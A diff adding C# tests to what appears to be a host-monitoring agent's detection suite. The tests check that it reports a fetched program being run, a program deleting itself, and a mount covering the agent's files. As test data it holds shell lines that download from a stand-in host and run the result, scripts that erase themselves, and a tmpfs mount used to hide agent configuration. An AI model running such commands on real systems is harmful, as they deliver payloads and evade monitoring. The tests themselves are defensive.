@@ -153,6 +153,89 @@ public sealed class DetectionTests(LabFixture fixture) : KernelTest(fixture), IC
         }
     }
 
+    [Theory]
+    [EveryMode(
+        "curl -sS -o FILE URL; sh FILE",
+        "curl -sS -o FILE.part URL; mv FILE.part FILE; sh -e FILE",
+        "curl -sS URL | tee FILE; sh FILE",
+        "sh -c 'curl -sS -o FILE URL; cp /bin/echo FILE.2; curl -sS -o FILE.3 URL; cat FILE.2 > FILE.3; chmod 755 FILE.3; FILE.3 x'",
+        "python3 -c 'import urllib.request; urllib.request.urlretrieve(\"URL\", \"FILE\")'; sh FILE")]
+    public async Task A_program_that_was_fetched_and_is_run_is_found(LabMode mode, string script)
+    {
+        foreach (var folder in (string[])["/tmp", "/dev/shm"])
+        {
+            var file = $"{folder}/dropped-{Guid.NewGuid():N}";
+            var run = await Lab.RunAsync(mode, Script(
+                script.Replace("FILE", file, StringComparison.Ordinal).Replace("URL", "http://v4.test/payload", StringComparison.Ordinal),
+                $"rm -f {file}*") with
+            {
+                Allow = ["v4.test:80"],
+            });
+            Assert.True(run.Traffic.Contains("/payload "), run.ToString());
+            if (mode != LabMode.Off)
+            {
+                var row = AssertFound(run, "dropped-program-run", "reported", null);
+                Assert.StartsWith(file, row.Evidence["program"], StringComparison.Ordinal);
+                Assert.StartsWith(
+                    script.Contains("python3", StringComparison.Ordinal) ? "python3" : "curl",
+                    Path.GetFileName(row.Evidence["downloadedBy"]),
+                    StringComparison.Ordinal);
+            }
+        }
+    }
+
+    [Theory]
+    [InlineData("curl -sS -o FILE URL; cat FILE")]
+    [InlineData("curl -sS -o work-FILE URL; sh work-FILE || true; rm work-FILE")]
+    [InlineData("curl -sS URL; printf 'exit 0' > FILE; sh FILE; echo 'int main(void) { return 0; }' | gcc -x c -o FILE.out -; FILE.out")]
+    [InlineData("cp /bin/true FILE; FILE; rm FILE")]
+    [InlineData("printf 'rm FILE.x' > FILE; touch FILE.x; sh FILE; rm FILE; printf 'echo' > FILE; sh FILE; mv FILE FILE.x; rm FILE.x")]
+    [InlineData("mkdir -p /etc/other; mount -t tmpfs none /etc/other; sleep 0.3; umount /etc/other")]
+    public async Task What_is_fetched_or_made_or_cleaned_up_is_none(string script)
+    {
+        var file = $"/tmp/made-{Guid.NewGuid():N}";
+        var run = await Lab.RunAsync(LabMode.Audit, Script(
+            "cd /run/lab/work",
+            script.Replace("work-FILE", Path.GetFileName(file), StringComparison.Ordinal).Replace("FILE", file, StringComparison.Ordinal)
+                .Replace("URL", "http://v4.test/payload", StringComparison.Ordinal),
+            $"rm -f {file}*"));
+        Assert.True(run.Process.ExitCode == 0 && run.Report.Findings.Count == 0, run.ToString());
+    }
+
+    [Theory]
+    [EveryMode(
+        "printf 'rm \"$0\"' > FILE; sh FILE",
+        "cp /bin/rm FILE; FILE FILE",
+        "printf '#!/usr/bin/env python3\nimport os, sys\nos.unlink(sys.argv[0])\n' > FILE; chmod 755 FILE; FILE")]
+    public async Task A_program_that_takes_itself_away_is_found(LabMode mode, string script)
+    {
+        foreach (var folder in (string[])["/tmp", "/run/lab/work"])
+        {
+            var file = $"{folder}/gone-{Guid.NewGuid():N}";
+            var run = await Lab.RunAsync(mode, Script(script.Replace("FILE", file, StringComparison.Ordinal), $"test ! -e {file}"));
+            Assert.Equal(0, run.Process.ExitCode);
+            if (mode != LabMode.Off)
+            {
+                var row = AssertFound(run, "program-removed-itself", "reported", null);
+                Assert.Equal(file, row.Evidence["program"]);
+                Assert.NotEmpty(row.Evidence["removedBy"]);
+            }
+        }
+    }
+
+    [Theory]
+    [EveryMode]
+    public async Task A_mount_over_the_agents_files_is_found(LabMode mode)
+    {
+        var run = await Lab.RunAsync(mode, Script(
+            "mkdir -p /etc/sallyport; mount -t tmpfs none /etc/sallyport; touch /etc/sallyport/agent.yml; sleep 0.3; umount /etc/sallyport"));
+        Assert.Equal(0, run.Process.ExitCode);
+        if (mode != LabMode.Off)
+        {
+            Assert.Equal("/etc/sallyport", AssertFound(run, "agent-files-covered", "reported", null).Evidence["place"]);
+        }
+    }
+
     [Fact]
     public async Task Files_of_a_runner_that_are_only_looked_at_are_none()
     {
